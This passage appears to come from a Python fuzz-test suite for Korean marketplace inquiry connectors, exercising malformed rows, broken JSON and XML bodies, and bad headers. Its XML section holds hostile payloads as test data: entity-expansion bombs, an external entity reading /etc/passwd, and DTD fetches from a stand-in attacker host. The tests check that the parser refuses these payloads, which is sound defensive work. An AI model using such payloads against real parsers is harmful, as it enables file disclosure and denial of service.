        "emerTypeCd": draw(st.sampled_from(("01", "02"))),
        "emerNtceSubject": draw(xml_text),
        "emerCtnt": "Q" + draw(xml_text),
        "createDt": f"{local:%Y%m%d}",
        "createTm": f"{local:%H:%M:%S}",
        "emerReplyDt": "" if deadline is None else f"{deadline.astimezone(KST):%Y%m%d%H%M%S}",
        "emerNtceCrntCd": status,
        "prdNm": draw(xml_text),
        "ordNo": draw(st.sampled_from(("", "202501100000777"))),
        "memNm": draw(xml_text),
        "emerNtceClfNm1": draw(st.sampled_from(("배송", "반품", ""))),
    }
    return row, Expected("", at, status in elevenst_rows.ALIMI_DONE_STATUSES)


def _elevenst_serve(response: httpx.Response) -> Handler:
    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.path.startswith("/rest/prodqnaservices/") and request.url.path.endswith("/02"):
            return httpx.Response(200, content=_xml_doc("productQnas", ""))  # the unanswered-only pass
        return _respond(response)

    return handle


def _elevenst_poll(stream: StreamKind) -> Callable[[Handler], Awaitable[PollResult]]:
    async def poll(handler: Handler) -> PollResult:
        clock = FakeClock(NOW)
        connector = ElevenstConnector(
            account_id=ACCOUNT,
            api_key=SecretStr("fuzz-11st-key"),
            client=_client(handler),
            clock=clock,
            streams=(stream,),
            max_requests_per_s=2.0,
        )
        try:
            return await connector.poll(stream, None, now=clock.now())
        finally:
            await connector.aclose()

    return poll


def _elevenst_spec(stream: StreamKind) -> RowSpec:
    qna = stream is StreamKind.PRODUCT_QNA
    root, tag = ("productQnas", elevenst_rows.QNA_ROW) if qna else ("alimi", elevenst_rows.ALIMI_ROW)

    @functools.lru_cache(maxsize=64)
    def parsed_xml(row_xml: str) -> object:
        found = elevenst_rows.rows(elevenst_rows.parse(_xml_doc(root, row_xml)), tag)
        return found[0] if found else None

    def parsed(raw: object) -> object:
        """The row as the connector sees it: rendered alone into a document and read back."""
        return parsed_xml(_xml_row(tag, raw))

    def to_inquiry(raw: object) -> Inquiry:
        row = parsed(raw)
        if qna:
            return elevenst_rows.qna_to_inquiry(row, ACCOUNT)
        return elevenst_rows.alimi_to_inquiry(row, ACCOUNT)

    refused: dict[str, st.SearchStrategy[object]] = (
        {"brdInfoNo": XML_IDS, "createDt": XML_BAD_DATES, "brdInfoCont": XML_BLANK, "brdInfoClfNo": XML_IDS}
        if qna
        else {
            "emerNtceSeq": XML_IDS,
            "createDt": XML_BAD_DATES,
            "emerCtnt": XML_BLANK,
            "emerNtceCrntCd": st.sampled_from(["07", "99", "x", "00"]),
        }
    )
    return RowSpec(
        name=f"elevenst {stream}",
        marketplace=Marketplace.ELEVENST,
        stream=stream,
        source="elevenst",
        good=_elevenst_qna() if qna else _elevenst_alimi(),
        id_prefix="",
        body_key="brdInfoCont" if qna else "emerCtnt",
        refused=refused,
        junk=xml_junk,
        to_inquiry=to_inquiry,
        # 긴급알리미's open snapshot reads the same listing; a broken row is still one row, counted once.
        extra_skips=lambda raw: 0,
        page=lambda rows: _xml_doc(root, "\n".join(_xml_row(tag, r) for r in rows)),
        poll=_elevenst_poll(stream),
        serve=_elevenst_serve,
    )


SPECS = {
    spec.name: spec
    for spec in (
        _coupang_spec(StreamKind.PRODUCT_QNA),
        _coupang_spec(StreamKind.CALL_CENTER),
        _naver_spec(StreamKind.PRODUCT_QNA),
        _naver_spec(StreamKind.CUSTOMER_INQUIRY),
        _esm_spec(StreamKind.PRODUCT_QNA),
        _esm_spec(StreamKind.URGENT),
        _elevenst_spec(StreamKind.PRODUCT_QNA),
        _elevenst_spec(StreamKind.URGENT),
    )
}
JSON_SPECS = [name for name, spec in SPECS.items() if spec.marketplace is not Marketplace.ELEVENST]

# ---------------------------------------------------------------------------------------------------------------
# (a) rows: bad rows skipped and counted, good rows through, every Inquiry well typed and storable
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(SPECS))
@ROWS
@given(data=st.data())
async def test_bad_rows_are_skipped_and_counted_good_rows_come_through(name: str, data: st.DataObject) -> None:
    spec = SPECS[name]
    await check_page(spec, data.draw(_page_cases(spec), label="cases"))


# Each input below crashed a poll (or the store after it) with something other than MalformedItem when this file
# was written; they stay as fixed examples so that the fix is held.
POISON_ROWS: list[tuple[str, str, object]] = [
    ("coupang product_qna", "inquiryAt", "0001-01-01 00:00:00"),  # KST midnight of year 1 is year 0 in UTC
    ("coupang product_qna", "inquiryAt", "9999-12-31 23:59:59"),  # received + 24 h deadline overflows
    ("coupang product_qna", "content", "cut off \ud83d"),  # a JSON \ud83d escape: SQLite cannot store it
    ("naver product_qna", "createDate", "9999-12-31T23:59:59-12:00"),  # astimezone(KST) overflows
    ("naver customer_inquiry", "inquiryRegistrationDateTime", "0001-01-01T00:00:00+14:00"),
    ("naver customer_inquiry", "title", "\udc00"),
    ("esm product_qna", "InformStatus", "²"),  # str.isdigit() but not int(): ValueError
    ("esm product_qna", "QnaType", "²"),
    ("esm urgent", "Status", "²"),
    ("esm urgent", "RegDate", "9999-12-31T23:59:59-12:00"),
    ("esm product_qna", "Details", "x\ud800y"),
    ("elevenst product_qna", "createDt", "00010101"),
    ("elevenst urgent", "emerReplyDt", "99991231235959"),
]


@pytest.mark.parametrize(("name", "key", "value"), POISON_ROWS)
async def test_poison_value_in_one_row_leaves_the_rest_of_the_page(name: str, key: str, value: object) -> None:
    spec = SPECS[name]
    good, expected = _fixed_good(spec, 100)
    poisoned, _ = _fixed_good(spec, 200)
    poisoned = _mutated(poisoned, [(_cased(poisoned, key), value)])
    result = await check_page(spec, [RowCase("good", good, expected), RowCase("junk", poisoned)])
    assert expected.external_id in {inquiry.external_id for inquiry in result.inquiries}


def _cased(row: Mapping[str, object], key: str) -> str:
    """`key` as the row spells it (ESM rows come in any casing)."""
    return next((k for k in row if k.lower() == key.lower()), key)


def _fixed_good(spec: RowSpec, number: int) -> tuple[dict[str, Any], Expected]:
    """A plain good row of `spec`, built without hypothesis' example() (which warns inside a test)."""
    at = NOW - timedelta(hours=1)
    local = at.astimezone(KST)
    if spec.marketplace is Marketplace.COUPANG:
        if spec.stream is StreamKind.PRODUCT_QNA:
            row: dict[str, Any] = {"inquiryId": number, "inquiryAt": f"{local:%Y-%m-%d %H:%M:%S}", "content": "문의"}
            return row, Expected(str(number), at, False)
        row = {"inquiryId": number, "inquiryAt": f"{local:%Y-%m-%d %H:%M:%S}", "content": "문의", "replies": []}
        row["csPartnerCounselingStatus"] = "requestAnswer"
        return row, Expected(str(number), at, False)
    if spec.marketplace is Marketplace.NAVER:
        if spec.stream is StreamKind.PRODUCT_QNA:
            row = {"questionId": number, "createDate": local.isoformat(), "question": "문의", "answered": False}
            return row, Expected(str(number), at, False)
        row = {
            "inquiryNo": number,
            "inquiryRegistrationDateTime": local.isoformat(),
            "inquiryContent": "문의",
            "answered": False,
        }
        return row, Expected(str(number), at, False)
    if spec.marketplace is Marketplace.ESM:
        if spec.stream is StreamKind.PRODUCT_QNA:
            row = {
                "MessageNo": str(number),
                "QnaType": 3,
                "SellerId": GMARKET_SELLER,
                "InformStatus": "미처리",
                "ReceiveDate": _esm_time(at),
                "Details": "문의",
            }
            return row, Expected(f"G:{number}", at, False)
        row = {"EmerMessageNo": str(number), "Status": "미처리", "RegDate": _esm_time(at), "Contents": "문의"}
        return row, Expected(str(number), at, False)
    if spec.stream is StreamKind.PRODUCT_QNA:
        row = {
            "brdInfoNo": str(number),
            "brdInfoClfNo": "1234567890",
            "brdInfoCont": "문의",
            "createDt": f"{local:%Y-%m-%d %H:%M:%S}.0",
            "answerYn": "N",
        }
        return row, Expected(str(number), at, False)
    row = {
        "emerNtceSeq": str(number),
        "emerCtnt": "문의",
        "createDt": f"{local:%Y%m%d}",
        "createTm": f"{local:%H:%M:%S}",
        "emerNtceCrntCd": "01",
    }
    return row, Expected(str(number), at, False)


# ---------------------------------------------------------------------------------------------------------------
# (b) whole bodies: a poll returns or raises a ConnectorError, never anything else
# ---------------------------------------------------------------------------------------------------------------

STATUSES = st.sampled_from([200, 200, 200, 204, 301, 400, 401, 403, 404, 418, 429, 500, 502, 503, 504])
RETRY_AFTER = st.one_of(
    st.none(),
    st.sampled_from(["120", "-5", "0", "1e309", "nan", "inf", "", "Wed, 21 Oct 2015 07:28:00 GMT"]),
    st.sampled_from(["Fri, 31 Dec 9999 23:59:59 GMT", "Mon, 01 Jan 0001 00:00:00 GMT", "99999999999999999999"]),
    st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40),
)
CONTENT_TYPES = st.sampled_from([None, "application/json;charset=UTF-8", "text/html", "text/plain", "text/xml"])
HTML_PAGES = (
    b"<HTML><HEAD><TITLE>Access Denied</TITLE></HEAD><BODY>You don't have permission.</BODY></HTML>",
    b"<html><body><h1>502 Bad Gateway</h1></body></html>",
    "<html><body>점검 중입니다</body></html>".encode("euc_kr"),
)


def _deep(depth: int, opening: bytes, middle: bytes, closing: bytes) -> bytes:
    return opening * depth + middle + closing * depth


@st.composite
def _json_bodies(draw: st.DrawFn, spec: RowSpec) -> bytes:
    """A broken (or oddly valid) JSON body for `spec`'s list endpoint."""
    valid = spec.page([_fixed_good(spec, n)[0] for n in range(draw(st.integers(0, 3)))])
    depth = draw(st.integers(1, 3000) | st.sampled_from([990, 995, 1000, 200_000]))
    body: bytes = draw(
        st.one_of(
            st.binary(max_size=200),
            st.sampled_from([b"", b"null", b"[]", b"{}", b'"x"', b"0", b"true", b"NaN", *HTML_PAGES]),
            st.integers(0, max(0, len(valid) - 1)).map(lambda cut: valid[:cut]),  # truncated
            st.just(b"\xef\xbb\xbf" + valid),  # a UTF-8 BOM
            st.just(valid.decode("ascii").encode("utf-16")),
            st.just(_deep(depth, b"[", b"", b"]")),
            st.just(_deep(depth, b'{"a":', b"1", b"}")),
            st.just(_deep(depth, b'{"data":', b"[]", b"}")),  # ESM unwraps nested data objects
            st.just(_deep(depth, b'{"code":200,"data":', b"{}", b"}")),
            json_junk.map(_json_bytes),
            json_junk.map(lambda junk: _json_bytes({"code": "200", "message": "OK", "data": junk})),
            json_junk.map(lambda junk: _json_bytes({"code": "200", "data": {"content": [{}], "pagination": junk}})),
            json_junk.map(lambda junk: _json_bytes({"contents": [junk], "totalPages": junk, "last": junk})),
            json_junk.map(lambda junk: _json_bytes({"resultCode": junk, "message": junk, "data": junk})),
            st.just(valid),
        )
    )
    return body


@pytest.mark.parametrize("name", JSON_SPECS)
@BODIES
@given(data=st.data())
async def test_broken_json_bodies_are_connector_errors(name: str, data: st.DataObject) -> None:
    spec = SPECS[name]
    body = data.draw(_json_bodies(spec), label="body")
    status = data.draw(STATUSES, label="status")
    headers = {}
    if (content_type := data.draw(CONTENT_TYPES, label="content_type")) is not None:
        headers["Content-Type"] = content_type
    if (retry_after := data.draw(RETRY_AFTER, label="retry_after")) is not None:
        headers["Retry-After"] = retry_after
    await check_body(spec, httpx.Response(status, content=body, headers=headers))


@pytest.mark.parametrize("stream", [StreamKind.PRODUCT_QNA, StreamKind.CUSTOMER_INQUIRY])
@BODIES
@given(data=st.data())
async def test_broken_naver_token_responses_are_connector_errors(stream: StreamKind, data: st.DataObject) -> None:
    spec = SPECS[f"naver {stream}"]
    valid = _json_bytes({"access_token": "t", "expires_in": 10800, "token_type": "Bearer"})
    body = data.draw(
        st.one_of(
            st.binary(max_size=100),
            st.integers(0, len(valid) - 1).map(lambda cut: valid[:cut]),
            json_junk.map(_json_bytes),
            json_junk.map(lambda junk: _json_bytes({"access_token": junk, "expires_in": 10800})),
            json_junk.map(lambda junk: _json_bytes({"access_token": "t", "expires_in": junk})),
            st.just(_deep(5000, b"[", b"", b"]")),
        ),
        label="token body",
    )
    token = httpx.Response(data.draw(STATUSES, label="status"), content=body)
    rows_key = "contents" if stream is StreamKind.PRODUCT_QNA else "content"
    handler = _naver_handler(rows_key, httpx.Response(200, content=spec.page([])), token)
    try:
        with capture_logs():
            await spec.poll(handler)
    except ConnectorError as err:
        assert err.retry_after_s is None or (math.isfinite(err.retry_after_s) and err.retry_after_s >= 0)


NESTINGS = (
    (b"[", b"", b"]"),
    (b'{"a":', b"1", b"}"),
    (b'{"data":', b"[]", b"}"),  # ESM unwraps nested data objects itself
    (b'{"code":200,"data":', b"{}", b"}"),
)


@pytest.mark.parametrize("name", JSON_SPECS)
async def test_deeply_nested_json_is_a_connector_error(name: str) -> None:
    """Around Python's recursion limit and far beyond: json.loads raises RecursionError, not a ValueError."""
    for (opening, middle, closing), depth in itertools.product(NESTINGS, (990, 1000, 5000, 200_000)):
        await check_body(SPECS[name], httpx.Response(200, content=_deep(depth, opening, middle, closing)))


# ---- 11번가: broken XML ------------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']><ns2:productQnas xmlns:ns2="urn:x"><ns2:productQna><ns2:brdInfoCont>&lol9;</ns2:brdInfoCont>'
    + b"</ns2:productQna></ns2:productQnas>"
)
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"a" * 50_000 + b'">]><r>' + b"&a;" * 2_000 + b"</r>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<ns2:productQnas xmlns:ns2="urn:x"><ns2:productQna><ns2:brdInfoCont>&x;</ns2:brdInfoCont>'
    b"</ns2:productQna></ns2:productQnas>"
)
PARAMETER_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><r/>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r/>'
ENTITY_BOMBS = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blowup": QUADRATIC_BLOWUP,
    "external entity": EXTERNAL_ENTITY,
    "parameter entity": PARAMETER_ENTITY,
}
# Codec names an 11번가 prolog could carry: non-text codecs, codecs that refuse to decode, unknown names.
PROLOG_ENCODINGS = (
    "EUC-KR",
    "euc-kr",
    "ks_c_5601-1987",
    "UTF-8",
    "utf-16",
    "utf-32",
    "utf-7",
    "latin-1",
    "no-such-codec",
    "hex",
    "base64",
    "rot13",
    "zlib",
    "bz2",
    "uu",
    "quopri",
    "undefined",
    "idna",
    "punycode",
    "unicode_escape",
)


@pytest.mark.parametrize("bomb", list(ENTITY_BOMBS))
def test_defusedxml_refuses_entity_bombs(bomb: str) -> None:
    with pytest.raises(ValueError, match="not well-formed XML") as caught:
        elevenst_rows.parse(ENTITY_BOMBS[bomb])
    assert type(caught.value.__cause__).__module__.startswith("defusedxml")


@st.composite
def _xml_bodies(draw: st.DrawFn, spec: RowSpec) -> bytes:
    valid = spec.page([_fixed_good(spec, n)[0] for n in range(draw(st.integers(0, 3)))])
    root = "productQnas" if spec.stream is StreamKind.PRODUCT_QNA else "alimi"
    body_text = valid.decode("euc_kr", "replace")
    encoding = draw(st.sampled_from(PROLOG_ENCODINGS))
    body: bytes = draw(
        st.one_of(
            st.binary(max_size=200),
            st.sampled_from([b"", b"<", b"<?xml", b"\x00", b"\xef\xbb\xbf<r/>", *HTML_PAGES, *ENTITY_BOMBS.values()]),
            st.just(EXTERNAL_DTD),
            st.integers(0, max(0, len(valid) - 1)).map(lambda cut: valid[:cut]),  # truncated
            st.just(valid.replace(b'encoding="EUC-KR"', f'encoding="{encoding}"'.encode())),  # a wrong declaration
            st.just(valid.replace(f' xmlns:ns2="{NS}"'.encode(), b"")),  # the ns2 prefix unbound
            st.just(valid.replace(b"<?xml", b"<?xml-stylesheet", 1)),
            st.just(valid.replace(b'version="1.0"', b'version="1.1"', 1)),
            st.binary(min_size=1, max_size=20).map(lambda junk: valid.replace(b"<ns2:brdInfoCont>", b"<a>" + junk)),
            st.binary(min_size=1, max_size=20).map(lambda junk: valid[: len(valid) // 2] + junk),
            st.just(_xml_doc(root, "<x>" + "\xff" * 3 + "</x>").replace(b"&#255;", b"\xff\xfe\x80")),  # bad EUC-KR
            st.just(body_text.encode("utf-16")),
            st.sampled_from([10, 1000, 50_000]).map(lambda n: b"<a>" * n + b"</a>" * n),
            st.sampled_from(["-1000", "-999", "-10004", "500", "200", "0", "", "x"]).map(
                lambda code: _xml_doc(
                    "result", f"<ns2:result_code>{code}</ns2:result_code><ns2:result_text>인증 실패</ns2:result_text>"
                )
            ),
            st.just(valid),
        )
    )
    return body


@pytest.mark.parametrize("name", [name for name in SPECS if name.startswith("elevenst")])
@BODIES
@given(data=st.data())
async def test_broken_xml_bodies_are_connector_errors(name: str, data: st.DataObject) -> None:
    spec = SPECS[name]
    body = data.draw(_xml_bodies(spec), label="body")
    status = data.draw(STATUSES, label="status")
    headers = {"Content-Type": "text/xml;charset=EUC-KR"}
    if (retry_after := data.draw(RETRY_AFTER, label="retry_after")) is not None:
        headers["Retry-After"] = retry_after
    await check_body(spec, httpx.Response(status, content=body, headers=headers))


@pytest.mark.parametrize("encoding", PROLOG_ENCODINGS)
def test_any_encoding_declaration_decodes_or_is_not_xml(encoding: str) -> None:
    """`decode` promises never to raise; `parse` may only say "not well-formed" (a ValueError)."""
    body = _xml_doc("productQnas", "<ns2:productQna><ns2:brdInfoCont>똠 \xff</ns2:brdInfoCont></ns2:productQna>")
    body = body.replace(b'encoding="EUC-KR"', f'encoding="{encoding}"'.encode())
    assert isinstance(elevenst_rows.decode(body), str)
    with contextlib.suppress(ValueError):
        elevenst_rows.parse(body)


@pytest.mark.parametrize("prefix", ["ns2:", ""])
async def test_rows_match_by_local_name_with_or_without_namespace(prefix: str) -> None:
    spec = SPECS["elevenst product_qna"]
    row, expected = _fixed_good(spec, 71001)
    fields = "".join(f"<{prefix}{k}>{escape(v)}</{prefix}{k}>" for k, v in row.items())
    body = _xml_doc("productQnas", f"<{prefix}productQna>{fields}</{prefix}productQna>")
    result = await spec.poll(spec.serve(httpx.Response(200, content=body)))
    assert [(i.external_id, i.received_at) for i in result.inquiries] == [(expected.external_id, expected.received_at)]
